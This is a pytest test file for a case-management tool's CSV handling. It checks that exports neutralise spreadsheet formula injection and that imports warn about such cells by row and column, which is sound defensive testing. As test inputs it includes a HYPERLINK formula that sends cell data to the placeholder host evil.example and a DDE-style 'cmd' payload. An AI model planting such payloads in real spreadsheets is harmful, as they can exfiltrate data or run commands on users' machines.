"""Every CSV fmdesk writes is safe to open in a spreadsheet (OWASP "CSV injection"): a cell that
begins with =, +, -, @, a tab or a carriage return is written with a single quote in front, while
the figures fmdesk works out stay numbers; reading, such values are warned about by row and
column, never refused."""

import csv
import datetime as dt
import io

import pytest

from fmdesk.claims import SCHEDULE_HEADER, ScheduleRow, schedule_csv_row
from fmdesk.csvcells import Number, could_be_formula, csv_bytes, safe_cell
from fmdesk.identified_csv import parse_identified_csv
from fmdesk.programme import Chart, Dashboard, Figure, Section
from tests.unit.test_identified_csv import GOOD, TODAY
from tests.unit.test_identified_csv import csv_bytes as identified_file

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click for details")'


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),  # typed into a text column: text, as the person typed it
        ("Nowak family", "Nowak family"),
        (" =not first", " =not first"),
        (None, ""),
        (-3, "-3"),
        (0.5, "0.5"),
        (Number("-0.50"), "-0.50"),
        (Number(12), "12"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_begins_like_a_formula(
    value: object, written: str
) -> None:
    assert safe_cell(value) == written


def test_a_number_column_takes_only_plain_numbers() -> None:
    with pytest.raises(ValueError, match="not a plain number"):
        Number("-1+2")
    with pytest.raises(ValueError, match="not a plain number"):
        Number("=1")
    assert Number("+0.25") == "+0.25"  # equal to the plain text, so readers see no change


def test_the_claim_schedule_csv_shows_a_formula_family_name_as_text() -> None:
    row = ScheduleRow(
        batch="Q3",
        reference="FM-001",
        family=EVIL,
        framework="families-matter@1",
        route="problems",
        problem="=1+1",
        outcome="5.2",
        outcome_text="Safe at home",
        basis="Evidence",
        source="@police",
        evidence_date=dt.date(2025, 9, 1),
        sustained_on=None,
        recorded_by="Pat Keyworker",
        person="",
        detail="-see the file",
    )
    header, written = read(csv_bytes([SCHEDULE_HEADER, schedule_csv_row(row)]))
    cells = dict(zip(header, written, strict=True))
    assert cells["family_name"] == "'" + EVIL
    assert cells["problem"] == "'=1+1"
    assert cells["evidence_source"] == "'@police"
    assert cells["detail"] == "'-see the file"
    assert cells["evidence_date"] == "2025-09-01"


def test_the_dashboard_csv_neutralises_names_and_keeps_a_negative_average_a_number() -> None:
    # Section and figure names come from a council's framework and Star instrument files.
    board = Dashboard(
        year=2025,
        today=TODAY,
        family_count=3,
        sections=(
            Section(
                key="stars",
                title="=Star movement",
                chart=Chart.COUNT,
                figures=(
                    Figure(key="a", label="@Home", value=2, families=("f1", "f2"), average=-0.5),
                    Figure(key="b", label="-Money", value=1, families=("f3",), of=3, average=1.25),
                ),
            ),
        ),
    )
    header, *rows = read(csv_bytes(board.csv_rows()))
    first, second = (dict(zip(header, r, strict=True)) for r in rows)
    assert (first["section"], first["figure"]) == ("'=Star movement", "'@Home")
    assert first["average"] == "-0.50"
    assert second["figure"] == "'-Money"
    assert (second["value"], second["of"], second["percent"], second["average"]) == (
        "1",
        "3",
        "33.3",
        "+1.25",
    )


def test_the_identified_families_import_warns_by_row_and_column_and_still_imports() -> None:
    rows = [
        *GOOD[:2],
        'K-300,"=HYPERLINK(""http://evil.example"",""x"")",,parent,Ola,@Reed,1980-01-01,,,,,,,,,,,',
        "K-400,\t+1 Dock Rd,,parent,Ann,-,1981-02-02,,,,,,,,,,,",
    ]
    result = parse_identified_csv(identified_file(*rows), today=TODAY)
    assert result.ok
    assert len(result.families) == 3
    assert [(w.row, w.column) for w in result.warnings] == [
        (4, "address"),
        (4, "surname"),
        (5, "address"),
    ]
    assert str(result.warnings[1]).startswith(
        "Row 4, column surname: begins with '@', so a spreadsheet may run it as a formula"
    )
    assert "begins with a tab" in str(result.warnings[2])
    assert result.summary().endswith("3 warnings.")
    imported = next(f for f in result.families if f.key == "K-300")
    assert imported.people[0].family_name == "@Reed"  # kept as written


def test_placeholders_and_plain_numbers_are_not_worth_a_warning() -> None:
    assert not could_be_formula("-")
    assert not could_be_formula("--")
    assert not could_be_formula("-12")
    assert could_be_formula(" =1+1")
    assert could_be_formula("\r@x")
